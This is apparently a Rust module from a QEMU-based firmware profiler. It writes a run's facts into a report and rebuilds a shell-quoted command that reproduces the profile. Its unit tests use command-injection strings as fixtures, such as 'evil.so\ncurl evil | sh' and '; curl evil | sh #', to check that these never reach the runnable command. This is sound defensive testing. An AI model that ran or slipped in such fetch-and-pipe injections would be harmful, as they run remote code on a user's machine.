//! Facts of a run for the report, and the command that makes the same profile again.

use clap::ValueEnum as _;

use crate::analysis::debug_hints;
use crate::analysis::describe;
use crate::analysis::stacks::View;
use crate::image::heap::rule::Kind;
use crate::profile::input::When;
use crate::profile::{Profile, SpanKind};
use crate::run::contain::semihosting::Semihosting;
use crate::run::request::options::{DEFAULT_BIN_BYTES, DEFAULT_MAX_DEPTH, DEFAULT_PERIOD_INSNS};
use crate::run::request::settings::{self, Setting};
use crate::text::number::{Hex, group};

/// Facts of a run as terms with their texts, in the order of reading.
pub(super) fn of(profile: &Profile, view: View) -> Vec<(String, String)> {
    let facts = &profile.facts;
    let mut list: Vec<(String, String)> = Vec::new();
    let mut say = |term: &str, text: String| list.push((term.to_owned(), text));
    say("Image", facts.image_name.clone());
    say("SHA-256 of the image", facts.image_sha256.clone());
    if let Some(sha256) = &facts.symbols_sha256 {
        say("SHA-256 of the symbols", sha256.clone());
    }
    say("Instruction set", facts.isa.clone());
    let cpu = facts.cpu.as_ref().map_or_else(String::new, |cpu| format!(", CPU {cpu}"));
    say("Machine", format!("QEMU {} {}{cpu}", facts.qemu_version, facts.machine));
    if !facts.qemu_args.is_empty() {
        say("QEMU arguments", facts.qemu_args.join(" "));
    }
    if profile.vcpus.len() > 1 {
        say("vCPUs", profile.vcpus.len().to_string());
    }
    say("Firmware's time", format!("{} ns per instruction", 1_u64 << facts.icount_shift));
    if !facts.firmware_args.is_empty() {
        say("Firmware's arguments", facts.firmware_args.join(" "));
    }
    if let Some(served) = &facts.semihosting {
        say("Semihosting", served.clone());
    }
    if let Some(address) = facts.load_addr {
        say("Loaded at", Hex(address).to_string());
    }
    if facts.load_bias != 0 {
        say("Load bias", format!("{:#x}", facts.load_bias));
    }
    if let Some(address) = facts.vectors {
        say("Vector table", Hex(address).to_string());
    }
    if let Some(line) = describe::describe_stubs(facts) {
        say("Stubs", line);
    }
    for line in describe::describe_chip(profile) {
        say("Chip", line);
    }
    say("Entry", describe::place(&profile.names, facts.entry));
    let jitter = facts.jitter_seed.map_or_else(String::new, |seed| format!(", dithered with seed {seed}"));
    say("Samples", format!("one every {} instructions{jitter}", group(facts.period_insns)));
    say(
        "Call stacks",
        match (profile.tree.is_empty(), facts.max_depth) {
            (false, _) => "exact: every call and return was followed".to_owned(),
            (true, Some(depth)) => format!("at the samples, at most {} frames", group(depth.into())),
            (true, None) => "none were taken".to_owned(),
        },
    );
    if facts.before_window_insns > 0 {
        say("Before the window", format!("{} instructions", group(facts.before_window_insns)));
    }
    say("End", describe::describe_end(profile));
    if let Some(line) = describe::describe_unopened(profile) {
        say("Window", line);
    }
    if let Some(line) = describe::describe_input(facts) {
        say("Input", line);
    }
    for line in describe::describe_notes(profile) {
        say("Asked of the host", line);
    }
    if facts.waits > 0 {
        say("Waits for an interrupt", group(facts.waits));
    }
    if facts.slept_insns > 0 {
        say("Idle in wfe", format!("{} instructions", group(facts.slept_insns)));
    }
    if let Some(line) = describe::describe_unresolved(facts) {
        say("Not attributed", line);
    }
    for producer in &profile.names.producers {
        say("Compiled by", producer.clone());
    }
    if let Some(line) = debug_hints::sentence(profile, debug_hints::PROFILE) {
        say("In a debugger", line);
    }
    say("Made by", format!("harness {}", facts.harness_version));
    say("The same again", command(profile, view));
    list
}

/// Command that makes the profile, quoted for a shell.
fn command(profile: &Profile, view: View) -> String {
    let facts = &profile.facts;
    let mut words: Vec<String> = vec!["harness".to_owned()];
    if !facts.firmware_args.is_empty() {
        words.push("run".to_owned());
    }
    let mut option = |name: &str, value: String| words.extend([name.to_owned(), quote(&value)]);
    let window = &facts.window;
    if let Some(insns) = window.for_insns {
        option("--for", insns.to_string());
    }
    if let Some(function) = &window.from {
        option("--from", function.clone());
    }
    if let Some(function) = &window.until {
        option("--until", function.clone());
    }
    if let Some(insns) = window.max_insns {
        option("--max-insns", insns.to_string());
    }
    if facts.period_insns != DEFAULT_PERIOD_INSNS {
        option("--period", facts.period_insns.to_string());
    }
    if let Some(seed) = facts.jitter_seed {
        option("--seeded-jitter", seed.to_string());
    }
    if let Some(depth) = facts.max_depth.filter(|&depth| depth != DEFAULT_MAX_DEPTH) {
        option("--max-depth", depth.to_string());
    }
    if facts.bin_bytes != DEFAULT_BIN_BYTES {
        option("--bin-bytes", facts.bin_bytes.to_string());
    }
    for span in &profile.spans {
        if let SpanKind::Between { from, until } = span.kind {
            let generic = facts.generic_spans.iter().find(|span| (span.from, span.until) == (from, until));
            option("--span", generic.map_or_else(|| format!("{from:#x}..{until:#x}"), |span| span.name.clone()));
        }
    }
    if let Some(insns) = profile.parts.slice_insns {
        option("--slice", insns.to_string());
    }
    for input in &facts.input {
        let text = escape(&input.bytes);
        match &input.when {
            When::At(insns) => option("--input", format!("{insns}:{text}")),
            When::After(prompt) => option("--input-after", format!("{}:{text}", escape(prompt.as_bytes()))),
        }
    }
    // A page may come from a stranger, and the command may be copied and run. So of QEMU's arguments it contains only
    // those that a profile may bring along, and names the others in a comment, escaped to one line.
    let mut left_out: Vec<String> = Vec::new();
    match &facts.chip {
        Some(chip) => option("--chip", chip.given.clone()),
        None if settings::check_machine(&facts.machine).is_ok() => option("--machine", facts.machine.clone()),
        None => left_out.push(format!("--machine {}", facts.machine.escape_debug())),
    }
    match &facts.cpu {
        Some(cpu) if settings::check_cpu(cpu).is_ok() => option("--cpu", cpu.clone()),
        cpu => left_out.extend(cpu.iter().map(|cpu| format!("--cpu {}", cpu.escape_debug()))),
    }
    option("--shift", facts.icount_shift.to_string());
    if let Some(address) = facts.load_addr {
        option("--load-addr", format!("{address:#x}"));
    }
    if facts.load_bias != 0 {
        option("--load-bias", format!("{:#x}", facts.load_bias));
    }
    if let Some(address) = facts.vectors {
        option("--vectors", format!("{address:#x}"));
    }
    if let Some(served) = &facts.semihosting {
        match Semihosting::from_str(served, false) {
            Ok(Semihosting::Unchecked) | Err(_) => left_out.push(format!("--semihosting {}", served.escape_debug())),
            Ok(_) => option("--semihosting", served.clone()),
        }
    }
    for stub in &facts.stubs {
        let is_alone = profile.names.functions.iter().filter(|function| function.name == stub.name).count() == 1;
        let place = if is_alone { String::new() } else { format!("@{:#x}", stub.address) };
        option("--stub", format!("{}{place}{}", stub.name, stub.returned()));
    }
    if facts.symbols_sha256.is_some() {
        option("--symbols", "ELF".to_owned());
    }
    let (settings, others) = settings::read(&facts.qemu_args);
    for argument in settings.iter().flat_map(Setting::words) {
        words.push(quote(&format!("--qemu-arg={argument}")));
    }
    if !profile.tree.is_empty() {
        words.push("--exact".to_owned());
    }
    if let Some(heap) = &profile.heap {
        words.push("--heap".to_owned());
        for (option, rule) in &heap.rules {
            match [Kind::Alloc, Kind::Free].map(Kind::option).into_iter().find(|known| known == option) {
                Some(option) => words.extend([option.to_owned(), quote(rule)]),
                None => left_out.push(format!("{} {}", option.escape_debug(), rule.escape_debug())),
            }
        }
    }
    if let Some(timeline) = &profile.timeline {
        words.push("--timeline".to_owned());
        for pattern in &timeline.patterns {
            words.extend(["--trace".to_owned(), quote(pattern)]);
        }
    }
    if facts.max_depth.is_none() {
        words.push("--no-stacks".to_owned());
    }
    if view.fold_irqs {
        words.push("--fold-irqs".to_owned());
    }
    // Not taken for an option.
    let here = if facts.image_name.starts_with('-') { "./" } else { "" };
    words.push(quote(&format!("{here}{}", facts.image_name)));
    if !facts.firmware_args.is_empty() {
        words.push("--".to_owned());
        words.extend(facts.firmware_args.iter().map(|argument| quote(argument)));
    }
    left_out.extend(others.iter().map(|other| format!("QEMU's {}", other.to_string().escape_debug())));
    if !left_out.is_empty() {
        words.push(format!("# left out, since it may reach files or programs: {}", left_out.join("; ")));
    }
    words.join(" ")
}

/// Escapes a text in `--input`'s syntax.
fn escape(bytes: &[u8]) -> String {
    let mut text = String::new();
    for chunk in bytes.utf8_chunks() {
        for character in chunk.valid().chars() {
            match character {
                '\n' => text += "\\n",
                '\r' => text += "\\r",
                '\t' => text += "\\t",
                '\u{1b}' => text += "\\e",
                ':' => text += "\\:",
                '\\' => text += "\\\\",
                control if (control as u32) < 0x20 || control as u32 == 0x7f => {
                    text += &format!("\\x{:02x}", control as u32);
                }
                other => text.push(other),
            }
        }
        for byte in chunk.invalid() {
            text += &format!("\\x{byte:02x}");
        }
    }
    text
}

/// Quotes a word for a shell.
fn quote(word: &str) -> String {
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-_=+.,:/@%".contains(&byte);
    if !word.is_empty() && word.bytes().all(is_plain) {
        return word.to_owned();
    }
    format!("'{}'", word.replace('\'', r"'\''"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::profile::Heap;
    use crate::profile::input::Input;
    use crate::profile::testing::empty;

    #[test]
    fn the_command_says_what_is_not_the_default_and_survives_a_shell() {
        let mut profile = empty();
        let facts = &mut profile.facts;
        facts.image_name = "it's mine.elf".to_owned();
        facts.window.for_insns = Some(30_000_000);
        facts.window.from = Some("f<int, 3>(char)".to_owned());
        facts.input = vec![Input::after("a\\: :go\\n").unwrap(), Input::at("1M:\\xff\\\\").unwrap()];
        facts.qemu_args = vec!["-smp".to_owned(), "2".to_owned()];
        facts.semihosting = Semihosting::Off.other_than_usual();
        assert_eq!(Semihosting::default().other_than_usual(), None);
        let command = command(&profile, View { fold_irqs: true });
        for part in [
            "--for 30000000 ",
            "--from 'f<int, 3>(char)' ",
            r"--input-after 'a\: :go\n' ",
            r"--input '1000000:\xff\\' ",
            "--qemu-arg=-smp --qemu-arg=2 ",
            "--fold-irqs",
            "--semihosting off ",
            r"'it'\''s mine.elf'",
        ] {
            assert!(command.contains(part), "{part} in {command}");
        }
    }

    #[test]
    fn what_is_copied_from_a_page_reaches_no_file_or_program() {
        let mut profile = empty();
        let facts = &mut profile.facts;
        facts.image_name = "--sandbox=off".to_owned();
        facts.machine = "mps2-an385,dumpdtb=/x".to_owned();
        facts.cpu = Some("cortex-m3,x=/y".to_owned());
        facts.semihosting = Some("unchecked".to_owned());
        let arguments = ["-smp", "2", "-plugin", "evil.so\ncurl evil | sh", "-s"];
        facts.qemu_args = arguments.map(str::to_owned).to_vec();
        let rules = ["--heap-alloc", "; curl evil | sh #"].map(|option| (option.to_owned(), "f(r0)".to_owned()));
        profile.heap = Some(Heap { rules: rules.to_vec(), ..Heap::default() });
        let command = command(&profile, View::default());
        let (run, left_out) = command.split_once(" # left out, ").unwrap();
        assert!(
            run.ends_with("--qemu-arg=-smp --qemu-arg=2 --heap --heap-alloc 'f(r0)' --no-stacks ./--sandbox=off"),
            "{run}"
        );
        assert!(
            !run.contains("dumpdtb") && !run.contains("curl") && !run.contains("/y") && !run.contains("evil"),
            "{run}"
        );
        let semihosting = "--semihosting unchecked";
        assert!(!run.contains(semihosting) && left_out.contains(semihosting), "{command}");
        assert!(
            left_out
                .contains("dumpdtb=/x; --cpu cortex-m3,x=/y; --semihosting unchecked; ; curl evil | sh # f(r0); QEMU's -plugin evil.so\\ncurl"),
            "{left_out}"
        );
        assert!(left_out.ends_with("; QEMU's -s") && !left_out.contains('\n'), "{left_out}");
    }

    #[test]
    fn input_reads_back_as_it_was() {
        let bytes: Vec<u8> = (0..=255).chain("größe".bytes()).collect();
        let typed = format!("1:{}", escape(&bytes));
        assert_eq!(Input::at(&typed).unwrap().bytes, bytes);
    }
}
